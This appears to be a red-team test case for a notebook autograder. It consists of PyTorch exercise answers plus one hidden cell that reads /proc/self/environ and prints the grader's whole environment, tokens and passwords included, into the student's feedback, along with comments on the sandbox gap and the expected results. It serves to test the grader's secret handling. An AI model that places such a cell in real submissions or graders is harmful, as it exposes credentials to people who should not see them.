# Secret leak into the feedback: the runner clears os.environ, but /proc/self/environ (readable:
# the sandbox allows /proc/self) still holds the environment the template process was started
# with, i.e. the grader's whole environment (tokens, passwords... the sandbox docs say it is not
# passed on). The cell prints every variable; the output lands in the autograded notebook and in
# the student's feedback HTML. The harness puts REDTEAM_SECRET_TOKEN in the grader's environment.
# A secure grader: the secret appears nowhere in autograded/ or feedback/.
# Check: grep REDTEAM-SECRET in feedback/<this>/.
# expect single_layer_sum: full
# expect single_layer_mm: full
# expect multilayer: full
# expect numpy_bridge: full
# %% single_layer_sum
y = activation(torch.sum(features * weights) + bias)
# %% after single_layer_sum
try:
    print(open("/proc/self/environ", "rb").read().replace(b"\0", b"\n").decode(errors="replace"))
except OSError as _err:
    print("no environ:", _err)
# %% single_layer_mm
y = activation(torch.mm(features, weights.view(5, 1)) + bias)
# %% multilayer
h = activation(torch.mm(features, W1) + B1)
output = activation(torch.mm(h, W2) + B2)
# %% numpy_bridge
b = torch.from_numpy(a)
b.mul_(2)
